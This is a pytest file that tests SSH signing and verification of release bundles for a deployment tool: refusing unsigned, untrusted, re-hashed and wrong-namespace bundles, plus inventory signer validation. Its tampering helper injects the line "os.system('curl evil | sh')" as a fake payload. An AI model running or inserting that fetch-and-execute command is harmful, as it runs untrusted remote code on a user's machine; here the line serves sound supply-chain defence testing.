"""Signed bundles with the real ssh-keygen: who signed is named, and an unsigned bundle, one signed by a key
the inventory does not trust, one re-hashed after signing and one signed for another purpose are refused."""

from __future__ import annotations

import io
import json
import subprocess
import tarfile
from pathlib import Path

import paramiko
import pytest
import yaml
from ssh_server import LocalSSHServer, write_private_key
from test_cli import cli

from ddtree_ops import signing
from ddtree_ops.bundle import verify_bundle
from ddtree_ops.inventory import InventoryError, load_inventory
from ddtree_ops.release import LocalBundle
from ddtree_ops.signing import NAMESPACE, PublicKey, SignatureError, check_signature, sign_bundle
from tests.release_fixtures import make_bundle, sha


def keygen(path: Path, comment: str) -> Path:
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", comment, "-f", str(path)], check=True)
    return path


def ssh_fingerprint(pub: Path) -> str:
    """What ssh-keygen itself calls the key (`256 SHA256:... comment (ED25519)`), to check ours against."""
    return subprocess.run(["ssh-keygen", "-l", "-f", str(pub)], capture_output=True, text=True, check=True).stdout.split()[1]


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    d = tmp_path_factory.mktemp("keys")
    return {name: keygen(d / name, f"{name}@example.com") for name in ("alice", "mallory")}


def trusted(keys: dict[str, Path], *names: str) -> dict[str, PublicKey]:
    return {n: PublicKey.parse(keys[n].with_suffix(".pub").read_text()) for n in names}


def rehash(bundle: Path, rel: str) -> None:
    """Change one file of a bundle and re-hash the manifest to match: what the hash check alone cannot catch."""
    members = {}
    with tarfile.open(bundle, "r:gz") as tar:
        for m in tar.getmembers():
            members[m.name] = tar.extractfile(m).read()
    data = members[f"files/{rel}"] + b"import os; os.system('curl evil | sh')\n"
    members[f"files/{rel}"] = data
    manifest = json.loads(members["manifest.json"])
    for f in manifest["patched_files"] + manifest["new_files"]:
        if f["path"] == rel:
            f["sha256"], f["size"] = sha(data), len(data)
    members["manifest.json"] = json.dumps(manifest).encode()
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as tar:
        for name, blob in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(blob)
            tar.addfile(info, io.BytesIO(blob))
    bundle.write_bytes(raw.getvalue())


def test_a_good_signature_names_its_signer(tmp_path: Path, keys: dict[str, Path]) -> None:
    bundle = make_bundle(tmp_path).path
    made = sign_bundle(bundle, keys["alice"])
    assert signing.signature_path(bundle).read_text().startswith("-----BEGIN SSH SIGNATURE-----")
    fingerprint = ssh_fingerprint(keys["alice"].with_suffix(".pub"))
    assert made.key == f"ED25519 {fingerprint}"
    found = check_signature(bundle, trusted(keys, "mallory", "alice"))
    assert (found.signed, found.signer, found.trusted, found.key) == (True, "alice", True, f"ED25519 {fingerprint}")
    assert found.describe() == f"signed by alice (ED25519 {fingerprint})"
    assert not list(tmp_path.glob("*.tmp"))


def test_an_unsigned_bundle_is_refused_unless_allowed(tmp_path: Path, keys: dict[str, Path]) -> None:
    bundle = make_bundle(tmp_path).path
    with pytest.raises(SignatureError) as refused:
        check_signature(bundle, trusted(keys, "alice"))
    assert refused.value.code == "bundle_unsigned" and f"{bundle.name}.sig" in refused.value.message
    assert "--sign-key" in refused.value.hint and "--allow-unsigned" in refused.value.hint
    assert check_signature(bundle, trusted(keys, "alice"), allow_unsigned=True).describe() == "UNSIGNED"


def test_a_key_the_inventory_does_not_trust_is_refused_by_its_fingerprint(tmp_path: Path, keys: dict[str, Path]) -> None:
    bundle = make_bundle(tmp_path).path
    sign_bundle(bundle, keys["mallory"])
    with pytest.raises(SignatureError) as refused:
        check_signature(bundle, trusted(keys, "alice"))
    assert refused.value.code == "bundle_signer_unknown"
    assert ssh_fingerprint(keys["mallory"].with_suffix(".pub")) in refused.value.message
    assert "trusted: alice" in refused.value.message and "mallory" not in refused.value.message  # the comment is not a name
    allowed = check_signature(bundle, trusted(keys, "alice"), allow_unsigned=True)
    assert (allowed.signed, allowed.trusted, allowed.signer) == (True, False, None)
    with pytest.raises(SignatureError, match="no `signers:`"):
        check_signature(bundle, {})


def test_a_rehashed_bundle_passes_the_hash_check_but_not_the_signature(tmp_path: Path, keys: dict[str, Path]) -> None:
    bundle = make_bundle(tmp_path).path
    sign_bundle(bundle, keys["alice"])
    rehash(bundle, "sglang/srt/speculative/ddtree_utils.py")
    verify_bundle(bundle)  # the manifest agrees with the files: hashes alone say nothing is wrong
    for allow in (False, True):  # a signature that does not match is refused even with --allow-unsigned
        with pytest.raises(SignatureError) as refused:
            check_signature(bundle, trusted(keys, "alice"), allow_unsigned=allow)
        assert refused.value.code == "bundle_bad_signature"
        assert "by alice does not match the bundle's bytes" in refused.value.message


def test_a_signature_made_for_another_purpose_is_refused(tmp_path: Path, keys: dict[str, Path]) -> None:
    bundle = make_bundle(tmp_path).path
    with bundle.open("rb") as message:
        sig = subprocess.run(["ssh-keygen", "-Y", "sign", "-q", "-f", str(keys["alice"]), "-n", "git"],
                             stdin=message, capture_output=True, check=True).stdout
    signing.signature_path(bundle).write_bytes(sig)
    with pytest.raises(SignatureError, match=f"signature for `git`, not a bundle signature .`{NAMESPACE}`."):
        check_signature(bundle, trusted(keys, "alice"))
    signing.signature_path(bundle).write_text("not a signature\n")
    with pytest.raises(SignatureError, match="not an SSH signature"):
        check_signature(bundle, trusted(keys, "alice"))


def test_signing_with_a_missing_key_writes_nothing(tmp_path: Path) -> None:
    bundle = make_bundle(tmp_path).path
    with pytest.raises(Exception, match="does not exist") as refused:
        sign_bundle(bundle, tmp_path / "no-such-key")
    assert refused.value.code == "signing_key_missing"
    assert not signing.signature_path(bundle).exists()


def test_local_bundle_checks_hashes_first_then_the_signature(tmp_path: Path, keys: dict[str, Path]) -> None:
    tampered = make_bundle(tmp_path, tamper="sglang/srt/server_args.py").path
    sign_bundle(tampered, keys["alice"])
    with pytest.raises(Exception, match="tampered"):  # the more precise message wins
        LocalBundle.load(tampered, signers=trusted(keys, "alice"))
    good = make_bundle(tmp_path / "good").path
    sign_bundle(good, keys["alice"])
    loaded = LocalBundle.load(good, signers=trusted(keys, "alice"))
    assert loaded.describe()["signature"]["signer"] == "alice"
    assert LocalBundle.load(good).signature is None  # a caller's own bundle: no policy applied


# --- the inventory's `signers:` --------------------------------------------------------------------


def test_inventory_signers_inline_or_from_a_file(tmp_path: Path, keys: dict[str, Path]) -> None:
    pub = keys["alice"].with_suffix(".pub")
    (tmp_path / "keys").mkdir()
    (tmp_path / "keys" / "ci.pub").write_text(keys["mallory"].with_suffix(".pub").read_text())
    inv = tmp_path / "inv.yaml"
    inv.write_text(yaml.safe_dump({"hosts": {"a": {"address": "10.0.0.1"}},
                                   "signers": {"alice@example.com": pub.read_text().strip(), "ci": "keys/ci.pub"}}))
    signers = load_inventory(inv).signers
    assert list(signers) == ["alice@example.com", "ci"]
    assert signers["ci"].fingerprint == ssh_fingerprint(keys["mallory"].with_suffix(".pub"))


@pytest.mark.parametrize(("value", "message"), [
    ("keys/missing.pub", "cannot read key file"),
    ("ssh-ed25519 AAAAnotbase64!!", "does not decode"),
    ("ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAIBk51uNeiTAkmhOcsp8ohDFUV7FnYzEv+0ZspLKp57oh", "says it is `ssh-rsa`"),
    ("PRIVATE", "PRIVATE key"),
])
def test_inventory_refuses_bad_signers_with_file_and_line(tmp_path: Path, keys: dict[str, Path], value: str,
                                                          message: str) -> None:
    if value == "PRIVATE":
        value = str(keys["alice"])  # the private key file by mistake: refused, and never echoed
    inv = tmp_path / "inv.yaml"
    inv.write_text(f"hosts:\n  a: {{address: 10.0.0.1}}\nsigners:\n  alice: {value}\n")
    with pytest.raises(InventoryError) as err:
        load_inventory(inv)
    assert err.value.issues[0].path == "signers.alice" and err.value.issues[0].line == 4
    assert message in err.value.message
    assert "OPENSSH PRIVATE" not in err.value.message and keys["alice"].read_text()[40:80] not in err.value.message


def test_inventory_refuses_a_signer_name_that_is_no_principal_and_a_key_listed_twice(tmp_path: Path,
                                                                                     keys: dict[str, Path]) -> None:
    pub = keys["alice"].with_suffix(".pub").read_text().strip()
    inv = tmp_path / "inv.yaml"
    inv.write_text(yaml.safe_dump({"hosts": {"a": {"address": "10.0.0.1"}},
                                   "signers": {"al ice,*": pub, "alice": pub, "alice2": pub}}))
    with pytest.raises(InventoryError) as err:
        load_inventory(inv)
    assert [i.path for i in err.value.issues] == ["signers.al ice,*", "signers.alice2"]
    assert "the same key as signer `alice`" in err.value.message


# --- push and build --verify from the command line -------------------------------------------------------


@pytest.fixture
def fleet(tmp_path: Path, keys: dict[str, Path]) -> tuple[Path, LocalSSHServer]:
    client_key = paramiko.ECDSAKey.generate()
    server = LocalSSHServer(host_key=paramiko.ECDSAKey.generate(), authorized_key=client_key).start()
    write_private_key(client_key, tmp_path / "id_ecdsa")
    (tmp_path / "known_hosts").write_text(server.known_hosts_line())
    inventory = {"all": {"vars": {"identity_file": "id_ecdsa", "known_hosts": "known_hosts",
                                  "state_dir": str(tmp_path / "state"), "connect_timeout": 5}},
                 "hosts": {"h1": {"address": "127.0.0.1", "port": server.port}},
                 "signers": {"alice": str(keys["alice"].with_suffix(".pub"))}}
    (tmp_path / "inv.yaml").write_text(yaml.safe_dump(inventory))
    yield tmp_path / "inv.yaml", server
    server.stop()


@pytest.mark.parametrize("signer", [None, "mallory", "rehashed"])
def test_push_refuses_a_bundle_without_a_trusted_signature_before_any_host(tmp_path: Path, keys: dict[str, Path],
                                                                          fleet: tuple[Path, LocalSSHServer],
                                                                          signer: str | None) -> None:
    inventory, server = fleet
    bundle = make_bundle(tmp_path / "dist").path
    if signer is not None:
        sign_bundle(bundle, keys["mallory" if signer == "mallory" else "alice"])
    if signer == "rehashed":
        rehash(bundle, "sglang/srt/server_args.py")
    result = cli("push", "-i", str(inventory), "--bundle", str(bundle), "--json")
    doc = json.loads(result.stdout)
    expected = {None: "bundle_unsigned", "mallory": "bundle_signer_unknown", "rehashed": "bundle_bad_signature"}[signer]
    assert (result.returncode, doc["exit_code"], doc["error"]["code"]) == (1, 1, expected), result.stderr
    assert "refused" in result.stderr and "Traceback" not in result.stderr
    assert server.connections == 0 and server.commands == []  # refused before any host was contacted


def test_push_names_who_signed_what_it_sends(tmp_path: Path, keys: dict[str, Path],
                                             fleet: tuple[Path, LocalSSHServer]) -> None:
    inventory, server = fleet
    bundle = make_bundle(tmp_path / "dist").path
    sign_bundle(bundle, keys["alice"])
    result = cli("push", "-i", str(inventory), "--bundle", str(bundle), "--dry-run", "--json")
    doc = json.loads(result.stdout)
    assert doc["bundle"]["signature"] == {"signed": True, "signer": "alice", "trusted": True, "namespace": NAMESPACE,
                                          "key": f"ED25519 {ssh_fingerprint(keys['alice'].with_suffix('.pub'))}"}
    assert f"{bundle.name} (sha256 {doc['bundle']['sha256'][:16]}…): signed by alice" in result.stderr
    assert server.connections >= 1  # and then it went on to the host


def test_push_allow_unsigned_says_so(tmp_path: Path, fleet: tuple[Path, LocalSSHServer]) -> None:
    inventory, _ = fleet
    bundle = make_bundle(tmp_path / "dist").path
    result = cli("push", "-i", str(inventory), "--bundle", str(bundle), "--dry-run", "--allow-unsigned", "--json")
    assert json.loads(result.stdout)["bundle"]["signature"]["signed"] is False
    assert "UNSIGNED, accepted because of --allow-unsigned" in result.stderr


def test_build_verify_from_the_command_line(tmp_path: Path, keys: dict[str, Path], fleet: tuple[Path, LocalSSHServer]) -> None:
    inventory, _ = fleet
    bundle = make_bundle(tmp_path / "dist").path
    sign_bundle(bundle, keys["alice"])
    ok = cli("build", "--verify", str(bundle), "-i", str(inventory))
    assert ok.returncode == 0 and "signed by alice (ED25519 SHA256:" in ok.stdout, ok.stderr
    no_inventory = cli("build", "--verify", str(bundle), "--json")
    assert no_inventory.returncode == 2 and json.loads(no_inventory.stdout)["error"]["code"] == "inventory_missing"
    hashes_only = cli("build", "--verify", str(bundle), "--allow-unsigned", "--json")
    assert hashes_only.returncode == 0 and json.loads(hashes_only.stdout)["signature"]["trusted"] is False
    rehash(bundle, "sglang/srt/server_args.py")
    refused = cli("build", "--verify", str(bundle), "-i", str(inventory))
    assert refused.returncode == 1 and "does not match the bundle's bytes" in refused.stderr

